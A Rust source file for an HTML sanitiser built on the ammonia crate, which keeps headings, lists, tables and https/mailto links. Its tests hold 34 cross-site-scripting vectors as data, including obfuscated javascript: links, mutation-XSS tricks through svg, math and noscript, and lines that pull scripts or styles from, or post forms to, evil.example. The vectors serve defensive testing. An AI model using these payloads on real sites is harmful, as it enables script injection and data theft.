//! Rich text that administrators write and everybody reads: cut down to what can do nothing (S57).

use std::{
    collections::{HashMap, HashSet},
    sync::LazyLock,
};

use ammonia::{Builder, UrlRelative};

/// All that is left of a text: headings, paragraphs, lists, tables, emphasis, links. No pictures, styles, classes or identifiers.
const TAGS: [&str; 22] = [
    "p",
    "h1",
    "h2",
    "h3",
    "h4",
    "strong",
    "em",
    "u",
    "s",
    "ul",
    "ol",
    "li",
    "blockquote",
    "a",
    "br",
    "hr",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
];
/// Where a link may lead. Nothing relative: the text is shown on more than one page.
const SCHEMES: [&str; 2] = ["https", "mailto"];
/// What goes with its content, instead of leaving it as text.
const DROPPED: [&str; 13] =
    ["script", "style", "template", "svg", "math", "iframe", "object", "embed", "noscript", "textarea", "title", "xmp", "noembed"];

static BUILDER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from(TAGS))
        .tag_attributes(HashMap::from([("a", HashSet::from(["href"]))]))
        .generic_attributes(HashSet::new())
        .url_schemes(HashSet::from(SCHEMES))
        .url_relative(UrlRelative::Deny)
        .clean_content_tags(HashSet::from(DROPPED))
        .link_rel(Some("noopener noreferrer nofollow"))
        .strip_comments(true);
    builder
});

/// The part of an HTML fragment that may be shown. What went through once comes through unchanged.
#[must_use]
pub fn sanitise(html: &str) -> String {
    BUILDER.clean(html).to_string()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use regex_lite::Regex;

    use super::*;

    /// Vectors by their idea; each in a spelling that some filter once let through.
    const VECTORS: [&str; 34] = [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<img src=https://evil.example/pixel.gif>",
        "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=' \u{1}java\tscript:alert(1)'>x</a>",
        "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
        "<a href='&#106;avascript&colon;alert(1)'>x</a>",
        "<a href='JaVaScRiPt://%0aalert(1)//https://ok.example'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
        "<a href='//evil.example'>x</a>",
        "<a href='/v1/session'>x</a>",
        "<a href='http://plain.example'>x</a>",
        "<a href='https://ok.example' target=_blank style='color:red' id=x class=y>x</a>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<math href='javascript:alert(1)'>x</math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<template><template><img src=x onerror=alert(1)></template></template>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='javascript:alert(1)'></object><embed src=x>",
        "<style>@import 'https://evil.example/x.css'; p { background: url(https://evil.example/) }</style>",
        "<p style='background:url(https://evil.example/x)'>x</p>",
        "<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href='https://evil.example/'><a href='x'>x</a>",
        "<form action='https://evil.example'><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
        "<!--<img src='--><img src=x onerror=alert(1)//'>",
        "<textarea></textarea><img src=x onerror=alert(1)></textarea><xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
        "<table background='https://evil.example/x'><td background='javascript:alert(1)'>x<video src=x poster=y><audio src=z>",
    ];

    /// What is wrong with a text that is to be shown, judged by its letters alone.
    fn active(html: &str) -> Option<String> {
        let tag = Regex::new(r"<(/?)([^\s/>]*)([^>]*)>?").unwrap();
        let attributes = Regex::new(r#"^( href="(https://|mailto:)[^"<>]*")?( rel="noopener noreferrer nofollow")?$"#).unwrap();
        let bad = |found: &regex_lite::Captures<'_>| !TAGS.contains(&&found[2]) || !(attributes.is_match(&found[3]));
        tag.captures_iter(html).find(bad).map(|found| found[0].to_owned())
    }

    #[test]
    fn nothing_active_is_left() {
        // S57
        for vector in VECTORS {
            let clean = sanitise(vector);
            assert_eq!(active(&clean), None, "{vector} -> {clean}");
            assert!(!clean.contains("alert") || !clean.contains('<') || clean.contains("&lt;"), "{vector} -> {clean}");
            assert_eq!(sanitise(&clean), clean, "{vector}");
        }
        for (text, bad) in [("<img>", true), ("<a onclick=\"x\">", true), ("<a href=\"javascript:x\">", true), ("<p>a &lt;b</p>", false)] {
            assert_eq!(active(text).is_some(), bad, "the judge itself: {text}");
        }
    }

    #[test]
    fn what_agreements_need_stays() {
        let text = "<h1>条款</h1><p>We <strong>keep</strong> <em>your</em> <u>data</u><br>safe.</p><ul><li>one</li></ul><blockquote>q</blockquote><hr>\
                    <table><thead><tr><th>a</th></tr></thead><tbody><tr><td>1 &lt; 2</td></tr></tbody></table>";
        assert_eq!(sanitise(text), text);
        let link = sanitise("<a href=\"https://example.com/x?a=1&amp;b=2\">x</a><a href=\"mailto:li@example.com\">y</a>");
        assert!(link.contains("href=\"https://example.com/x?a=1&amp;b=2\"") && link.contains("mailto:li@example.com"), "{link}");
    }

    #[test]
    fn remote_pictures_are_gone() {
        // S57
        for text in ["<img src='https://a.example/x.png'>", "<picture><source srcset='https://a.example/x.png'><img src=y></picture>"] {
            assert_eq!(sanitise(text), "");
        }
    }

    proptest! {
        #[test]
        fn whatever_is_written_is_harmless_and_stable(parts in prop::collection::vec((prop::sample::select(VECTORS.to_vec()), 0_usize..200, "[<>&\"'/a-z =]{0,12}"), 1..4)) {
            let text: String = parts.into_iter().map(|(vector, at, noise)| {
                let (head, tail) = vector.split_at((0..=at.min(vector.len())).rev().find(|at| vector.is_char_boundary(*at)).unwrap_or(0));
                format!("{tail}{noise}{head}")
            }).collect();
            let clean = sanitise(&text);
            prop_assert_eq!(active(&clean), None, "{} -> {}", text, clean);
            prop_assert_eq!(sanitise(&clean), clean.clone(), "{}", text);
        }
    }
}
